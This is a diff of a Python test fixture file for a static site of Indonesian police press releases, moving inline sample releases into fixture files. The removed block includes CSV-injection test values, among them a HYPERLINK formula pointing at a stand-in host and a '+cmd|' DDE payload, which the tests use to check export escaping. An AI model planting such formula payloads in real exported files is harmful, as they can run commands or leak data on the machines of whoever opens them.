@@ -134,80 +134,15 @@ def registry_module(c_loader):
 
 
 # The real content stretched, for the tests that need more than three releases
-# in one month (tests/test_statistics.py, test_opendata.py, test_site.py):
-EXTENDED_RELEASES = {
-    # December and February: the archive spans four months, January empty but
-    # for a draft; an officer written another way ("Kompol Bayu Marfiando").
-    "2024-12-05-patroli.md": """\
-Title: Patroli Tiga Pilar Malam Minggu di Menteng
-Date: 2024-12-05 21:00
-Slug: patroli-tiga-pilar-malam-minggu-menteng
-Summary: Patroli bersama di wilayah Menteng.
-Units: Polsek Menteng; Satpol PP
-Officers: Kapolsek Menteng Kompol Bayu Marfiando; Wakapolsek Menteng Kompol II Sutasman
-Activities: Patroli Tiga Pilar
-Places: Kelurahan Menteng
-Sources: contoh.id
-Status: published
-
-Isi rilis.
-""",
-    "2025-02-10-ngopi.md": """\
-Title: Ngopi Kamtibmas Bersama Warga Johar Baru
-Date: 2025-02-10 10:00
-Slug: ngopi-kamtibmas-warga-johar-baru
-Summary: Ngopi Kamtibmas di Johar Baru.
-Units: Polsek Johar Baru
-Officers: Kapolsek Johar Baru Kompol Saiful Anwar; Kompol Bayu Marfiando
-Activities: Ngopi Kamtibmas; Cooling System
-Places: Kecamatan Johar Baru
-Sources: contoh.id
-Status: published
-
-Isi rilis.
-""",
-    # Quotes, commas, semicolons and an accent: what a CSV must keep.
-    "2024-12-02-rapat.md": """\
-Title: Rapat "Tiga Pilar", Koordinasi; Évaluasi Keamanan Menteng
-Date: 2024-12-02 09:15
-Slug: rapat-tiga-pilar-evaluasi-keamanan
-Summary: Warga bertanya: "Kapan patroli malam dimulai?" Jawabnya, mulai pekan depan, 100%.
-Units: Polsek Menteng
-Officers: Kapolsek Menteng Kompol Bayu Marfiando
-Activities: Patroli Tiga Pilar
-Places: Jalan Cikini Raya, No. 5; Kelurahan Cikini
-Sources: contoh.id
-Status: published
-
-Isi rilis.
-""",
-    # Fields a spreadsheet would run as formulas (OWASP "CSV Injection").
-    "2024-12-04-rumus.md": """\
-Title: =HYPERLINK("http://formula.example/?data=","Klik")
-Date: 2024-12-04 08:00
-Slug: rilis-rumus
-Summary: +cmd|' /C calc'!A0
-Units: Polsek Menteng
-Activities: Cooling System
-Places: -1+1; Kelurahan Cikini
-Sources: @SUM(1+1)
-Status: published
-
-Isi rilis.
-""",
-}
-# Drafts, in December and in the empty January: counted nowhere, in no data file.
-EXTENDED_RELEASES["2024-12-03-draf.md"] = (
-    EXTENDED_RELEASES["2024-12-02-rapat.md"]
-    .replace("Status: published", "Status: draft")
-    .replace("Slug: rapat-tiga-pilar-evaluasi-keamanan", "Slug: draf-yang-belum-terbit")
-)
-EXTENDED_RELEASES["2025-01-15-draf.md"] = (
-    EXTENDED_RELEASES["2025-02-10-ngopi.md"]
-    .replace("Date: 2025-02-10 10:00", "Date: 2025-01-15 10:00")
-    .replace("Slug: ngopi-kamtibmas-warga-johar-baru", "Slug: draf-januari")
-    .replace("Status: published", "Status: draft")
-)
+# in one month (tests/test_statistics.py, test_opendata.py, test_site.py): the
+# releases in tests/fixtures/extended/ are added to it.
+# - 2024-12-05-patroli.md, 2025-02-10-ngopi.md: the archive spans four months,
+#   January empty but for a draft; officers written other ways ("Kompol Bayu
+#   Marfiando", "Kapolsek Johar Baru Kompol Saiful Anwar" without degrees).
+# - 2024-12-02-rapat.md: quotes, commas, semicolons and an accent, that a CSV keeps.
+# - 2024-12-04-rumus.md: fields a spreadsheet would run as formulas (OWASP "CSV Injection").
+# - 2024-12-03-draf.md, 2025-01-15-draf.md: drafts, counted nowhere, in no data file.
+EXTENDED = ROOT / "tests" / "fixtures" / "extended"
 # The statistics page lists this many officers in the extended build.
 EXTENDED_TOP_OFFICERS = 3
 # And a draft as `invoke new` writes it, every field still empty (tests/test_scaffold.py).
@@ -219,10 +154,11 @@ SCAFFOLDED = (
 
 @pytest.fixture(scope="session")
 def extended_site(tmp_path_factory) -> Build:
-    """content/ plus EXTENDED_RELEASES, built once; `.content` is its folder."""
+    """content/ plus the releases of EXTENDED and a scaffolded draft, built once;
+    `.content` is its folder."""
     content = copy_content(tmp_path_factory.mktemp("extended") / "content")
-    for name, text in EXTENDED_RELEASES.items():
-        (content / "rilis" / name).write_text(text, encoding="utf-8")
+    for release in EXTENDED.glob("*.md"):
+        shutil.copy(release, content / "rilis" / release.name)
     title, now = SCAFFOLDED
     new_release(title, content, now=now)
     build = run_pelican(
@@ -388,9 +324,9 @@ def run_invoke(*args, site_url: str | None, env: dict | None = None):
     )
 
 
-# A draft of EXTENDED_RELEASES, in the published content: a public build leaves no
-# trace of it (tests/test_publish.py), so the site is content/'s byte for byte.
-PUBLISHED_DRAFT = "2024-12-03-draf.md"
+# A draft of EXTENDED, in the published content: a public build leaves no trace
+# of it (tests/test_publish.py), so the site is content/'s byte for byte.
+PUBLISHED_DRAFT = EXTENDED / "2024-12-03-draf.md"
 
 
 @pytest.fixture(scope="session")
@@ -400,9 +336,7 @@ def published(tmp_path_factory) -> Published:
     port = free_port()
     target = tmp_path_factory.mktemp("target")
     content = copy_content(tmp_path_factory.mktemp("published") / "content")
-    (content / "rilis" / PUBLISHED_DRAFT).write_text(
-        EXTENDED_RELEASES[PUBLISHED_DRAFT], encoding="utf-8"
-    )
+    shutil.copy(PUBLISHED_DRAFT, content / "rilis" / PUBLISHED_DRAFT.name)
     site_url = f"http://127.0.0.1:{port}"
     result = run_invoke(
         "publish", "--target", str(target), "--content", str(content), site_url=site_url
